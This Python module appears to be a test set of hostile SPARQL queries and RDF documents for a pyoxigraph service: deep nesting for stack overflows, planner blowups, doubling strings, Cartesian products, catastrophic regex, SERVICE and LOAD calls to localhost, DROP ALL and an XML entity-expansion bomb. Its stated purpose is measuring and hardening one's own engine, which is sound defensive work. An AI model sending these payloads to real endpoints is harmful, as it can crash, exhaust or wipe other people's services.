"""Hostile SPARQL: queries that end, fill or stall an unprotected engine, and the changes that would.

Each is made for pyoxigraph 0.5.13, where it was measured (nesting: stack overflow from 839 levels on; doubling: an
abort at 6 to 8 GB; planner: over 20 s for a star of 300 patterns).  They are sent to a service of one's own.
"""

from __future__ import annotations

from typing import Final

DEEP: Final = 3000
"""Levels of nesting: past every measured point of overflow; the queries have 9 to 60 kB."""


def _nested(before: str, opening: str, inside: str, closing: str, after: str, levels: int = DEEP) -> str:
    return before + opening * levels + inside + closing * levels + after


def _doubling(function: str, steps: int = 30) -> str:
    binds = " ".join(f"BIND({function.format(f'?x{i}')} AS ?x{i + 1})" for i in range(steps))
    return f'SELECT (STRLEN(?x{steps}) AS ?n) {{ BIND("aaaaaaaaaa" AS ?x0) {binds} }}'


NESTING: Final = {
    "3,000 open braces": "SELECT * " + "{" * DEEP,
    "3,000 nested groups": _nested("SELECT * ", "{", "", "}", ""),
    "3,000 parentheses": _nested("SELECT * { FILTER(", "(", "1", ")", ") }"),
    "3,000 nested STR(": _nested("SELECT (", "STR(", "1", ")", " AS ?x) {}"),
    "3,000 signs !": "SELECT * { FILTER(" + "!" * DEEP + "true) }",
    "1,500 nested NOT EXISTS": _nested("SELECT * { ?a ?b ?c ", "FILTER NOT EXISTS { ?a ?b ?c ", "", "}", " }", 1500),
    "3,000 nested OPTIONAL": _nested("SELECT * { ", "OPTIONAL { ", "", "}", " }"),
    "3,000 nested triple terms": _nested("SELECT * { ?a <p> ", "<<( <a> <b> ", "<c>", " )>>", " }"),
    "3,000 nested paths": _nested("SELECT * { ?a ", "^(", "<p>", ")", " ?b }"),
    "3,000 nested blank nodes": _nested("SELECT * { ?a <p> ", "[ <p> ", "1", "]", " }"),
    "3,000 nested subqueries": _nested("SELECT * ", "{ SELECT * ", "{}", "}", ""),
    "2,700 BIND": "SELECT * { " + " ".join(f"BIND({i} AS ?v{i})" for i in range(2700)) + " }",
    "6,600 UNION": "SELECT * { " + " UNION ".join(["{}"] * 6600) + " }",
    "a sum of 20,000 terms": "SELECT ((1" + "+1" * 20_000 + ") AS ?x) {}",
    "9,000 alternatives ||": "SELECT * { FILTER(" + "||".join(["?o=1"] * 9_000) + ") }",
}
"""The parser's and planner's recursion."""

PLANNING: Final = {
    "a star of 300 patterns": "SELECT * { " + " . ".join(f"?s <p{i}> ?v{i}" for i in range(300)) + " }",
    "a star of 300 patterns behind a FILTER":
        "SELECT * { FILTER(1 = 1) " + " . ".join(f"?s <p{i}> ?v{i}" for i in range(300)) + " }",
    "a chain of 300 patterns": "SELECT * { " + " . ".join(f"?v{i} <p> ?v{i + 1}" for i in range(300)) + " }",
    "a path of 300 steps": "SELECT * { ?a " + "/".join(["<p>"] * 300) + " ?b }",
    "a list of 300 items": "SELECT * { ?a <p> (" + "1 " * 300 + ") }",
    "300 OPTIONALs": "SELECT * { ?s ?p ?o " + " ".join(f"OPTIONAL {{ ?s <p{i}> ?v{i} }}" for i in range(300)) + " }",
}
"""Tiny queries that are planned for a long time."""

MEMORY: Final = {
    "CONCAT doubling 30 times": _doubling("CONCAT({0},{0})"),
    "REPLACE growing a hundredfold":
        'SELECT (STRLEN(?x6) AS ?n) { BIND("' + "a" * 100 + '" AS ?x0) '
        + " ".join(f'BIND(REPLACE(?x{i}, "a", "{"a" * 100}") AS ?x{i + 1})' for i in range(6)) + " }",
    "ORDER BY a product": "SELECT * { ?a ?b ?c . ?d ?e ?f } ORDER BY ?f",
    "DISTINCT over a product": "SELECT DISTINCT ?a ?d ?c ?f { ?a ?b ?c . ?d ?e ?f }",
    "GROUP_CONCAT over a product": "SELECT (GROUP_CONCAT(STR(?c)) AS ?n) { ?a ?b ?c . ?d ?e ?f }",
    "a hundredfold CONSTRUCT": "CONSTRUCT { " + " ".join(f"?s <http://e/{i}> ?o ." for i in range(100))
                               + " } WHERE { ?s ?p ?o . ?a ?b ?c }",
}
"""Memory without end."""

ENDLESS: Final = {
    "COUNT of a threefold product": "SELECT (COUNT(*) AS ?n) { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i }",
    "all of a twofold product": "SELECT * { ?a ?b ?c . ?d ?e ?f }",
    "?s (!<x:>)* ?o LIMIT 10": "SELECT * { ?s (!<x:>)* ?o } LIMIT 10",
    "MINUS without a shared variable":
        "SELECT (COUNT(*) AS ?n) { ?a ?b ?c . ?g ?h ?i MINUS { ?d ?e ?f } }",
    "NOT EXISTS over a product":
        "SELECT (COUNT(*) AS ?n) { ?a ?b ?c FILTER NOT EXISTS { ?d ?e ?f FILTER(STR(?f) > STR(?c) && ?d = ?a) } }",
    "VALUES 100 to the fifth":
        "SELECT (COUNT(*) AS ?n) { " + " ".join(
            f"VALUES ?x{j} {{ {' '.join(map(str, range(100)))} }}" for j in range(5)) + " }",
    "a regular expression made for each row":
        'SELECT (COUNT(*) AS ?n) { ?a ?b ?c . ?d ?e ?f FILTER(REGEX(STR(?c), CONCAT("(a+)+x", STR(?d)))) }',
}
"""Queries that do not end in a lifetime."""

REACHING_OUT: Final = {
    "SERVICE": "SELECT * { SERVICE <http://127.0.0.1:9/> { ?a ?b ?c } }",
    "SERVICE inside EXISTS": "ASK { ?a ?b ?c FILTER EXISTS { SERVICE SILENT <http://127.0.0.1:9/> { ?a ?b ?c } } }",
    "SERVICE with a variable": "SELECT * { ?a ?b ?endpoint . SERVICE ?endpoint { ?x ?y ?z } }",
    "LOAD": "LOAD <http://127.0.0.1:9/>",
    "DROP ALL": "DROP ALL",
}
"""Attempts to use the server's network, or to write."""

BOMBS: Final[dict[str, str]] = {**NESTING, **PLANNING, **MEMORY, **ENDLESS, **REACHING_OUT}

DOCUMENTS: Final = {
    "nested blank nodes (Turtle)":
        ("text/turtle", _nested("<http://e/a> <http://e/p> ", "[ <http://e/p> ", "1", " ]", " .", 20_000)),
    "nested lists (Turtle)": ("text/turtle", _nested("<http://e/a> <http://e/p> ", "(", "1", ")", " .", 50_000)),
    "nested triple terms (N-Triples)": ("application/n-triples", _nested(
        "<http://e/a> <http://e/p> ", "<<( <http://e/a> <http://e/p> ", '"1"', " )>>", " .", 20_000)),
    "nested objects (JSON-LD)":
        ("application/ld+json", _nested("", '{"@id":"http://e/a","http://e/p":', "1", "}", "", 20_000)),
    "expanding entities (RDF/XML)": ("application/rdf+xml", (
        '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a0 "aaaaaaaaaa">'
        + "".join(f'<!ENTITY a{i + 1} "{f"&a{i};" * 10}">' for i in range(9))
        + ']><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:e="http://e/">'
        '<rdf:Description rdf:about="http://e/a"><e:p>&a9;</e:p></rdf:Description></rdf:RDF>')),
}
"""Documents for the user graphs: media type and text."""
